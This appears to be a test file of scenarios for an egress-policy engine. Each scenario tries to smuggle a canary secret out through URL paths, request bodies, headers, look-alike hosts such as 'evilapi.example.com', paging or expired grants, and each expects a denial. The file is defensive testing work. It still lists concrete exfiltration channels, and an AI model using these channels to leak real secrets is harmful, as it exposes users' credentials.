# Values that a pattern bounds: what stands in a path, a body or a header where a grant
# has a variable. Each of them would carry a secret if it were free.

scenario "value-repository-of-any-name" {
  describe = "a repository that nobody has, asked for by a name that says something"
  cases    = ["PATH-09", "EXF-06"]
  policy   = "policies/triage.hcl"
  attempt {
    http { url = "https://api.example.com/repos/acme/${canary.token}/issues" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-owner-of-any-name" {
  describe = "another owner's repository of the same name"
  cases    = ["PATH-09", "EXF-06"]
  policy   = "policies/triage.hcl"
  attempt {
    http { url = "https://api.example.com/repos/${canary.token}/app/issues" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-comment-of-free-text" {
  describe = "a comment that everybody reads"
  cases    = ["EXF-01"]
  policy   = "policies/triage.hcl"
  attempt {
    http {
      method  = "POST"
      url     = "https://api.example.com/repos/acme/app/issues/7/comments"
      headers = { Content-Type = "application/json" }
      body    = json({ body = canary.token })
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "value-label-of-free-text" {
  describe = "a label that everybody sees"
  cases    = ["EXF-01"]
  policy   = "policies/triage.hcl"
  attempt {
    http {
      method  = "PUT"
      url     = "https://api.example.com/repos/acme/app/issues/7/labels"
      headers = { Content-Type = "application/json" }
      body    = json({ labels = [canary.token] })
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "value-package-of-any-name" {
  describe = "a Python package that nobody has published"
  cases    = ["EXF-06", "EXF-10"]
  policy   = "policies/python.hcl"
  attempt {
    http { url = "https://pypi.example.com/simple/${canary.token}/" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-bucket-of-another-tenant" {
  describe = "an object of the same name in a bucket whose owner reads its log"
  cases    = ["EXF-06", "PATH-09"]
  policy   = "policies/storage.hcl"
  attempt {
    http { url = "https://storage.example.com/${canary.token}/builds/1/app.tar.gz" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-object-of-any-name" {
  describe = "an object that is not there, in the granted bucket"
  cases    = ["EXF-06"]
  policy   = "policies/storage.hcl"
  attempt {
    http { url = "https://storage.example.com/acme-artifacts/builds/1/${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-project-of-another-team" {
  describe = "a report that is granted, to a project that is not: what it reports is the name of the project"
  cases    = ["CRED-01", "EXF-06"]
  policy   = "policies/ci.hcl"
  attempt {
    http {
      method  = "POST"
      url     = "https://telemetry.example.com/api/${canary.token}/store/"
      headers = { Content-Type = "application/json" }
      body    = json({ event = "build_failed", level = "error" })
    }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-report-of-free-text" {
  describe = "an error report with a stack of its own"
  cases    = ["EXF-01"]
  policy   = "policies/ci.hcl"
  attempt {
    http {
      method  = "POST"
      url     = "https://telemetry.example.com/api/4711/store/"
      headers = { Content-Type = "application/json" }
      body    = json({ event = "build_failed", level = "error", stack = canary.token })
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "value-page-of-any-name" {
  describe = "a page of the manual that is not there"
  cases    = ["EXF-06"]
  policy   = "policies/docs.hcl"
  attempt {
    http { url = "https://docs.example.com/manual/v1/${canary.token}.html" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-header-of-free-text" {
  describe = "a header that is granted, with a value that is not"
  cases    = ["HP-11", "EXF-06"]
  policy   = "policies/web.hcl"
  attempt {
    http {
      url     = "https://echo.example.com/v1/items/1"
      headers = { Range = "bytes=${canary.token}" }
    }
  }
  expect {
    verdict = "deny"
    reason  = "header_not_granted"
    leak    = none
  }
}

scenario "value-asset-of-any-name" {
  describe = "a tenant of a granted network is asked for a file that it does not have"
  cases    = ["EXF-06"]
  policy   = "policies/web.hcl"
  attempt {
    http { url = "https://one.cdn.example.com/assets/${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = "path_not_granted"
    leak    = none
  }
}

scenario "value-number-of-pages" {
  describe = "page after page, each of them granted: the limit ends it"
  cases    = ["EXF-05"]
  policy   = "policies/docs-any-page.hcl"
  attempt {
    for_each = ["one", "two", "three", "four"]
    http {
      url     = "https://docs.example.com/manual/${item.value}.html"
      headers = { X-Note = canary.token }
    }
  }
  expect {
    verdict = "deny"
    reason  = "limit_exceeded"
    leak    = none
    arrives = ["GET https://docs.example.com/manual/one.html", "GET https://docs.example.com/manual/two.html"]
  }
}

scenario "value-upload-of-any-content" {
  describe = "bytes that nobody looks at, where a document of a known form is granted"
  cases    = ["EXF-01", "EXF-11"]
  policy   = "policies/web.hcl"
  attempt {
    http {
      method  = "PUT"
      url     = "https://echo.example.com/v1/items/1"
      headers = { Content-Type = "application/octet-stream" }
      body    = "PK ${canary.token}"
    }
  }
  expect {
    verdict = "deny"
    reason  = "body_not_granted"
    leak    = none
  }
}

scenario "value-host-beside-a-granted-one" {
  describe = "a name under the same domain, asked for what is granted at another"
  cases    = ["HOST-05"]
  policy   = "policies/triage.hcl"
  attempt {
    http {
      url     = "https://evilapi.example.com/repos/acme/app/issues"
      headers = { X-Note = canary.token }
    }
  }
  expect {
    verdict = "deny"
    reason  = "no_grant"
    leak    = none
  }
}

scenario "value-after-its-time" {
  describe = "what was granted until the end of last year"
  cases    = ["EXF-06"]
  policy   = "policies/expired.hcl"
  attempt {
    http { url = "https://api.example.com/data/${canary.token}" }
  }
  expect {
    verdict = "deny"
    reason  = ["grant_expired", "no_grant"]
    leak    = none
  }
}
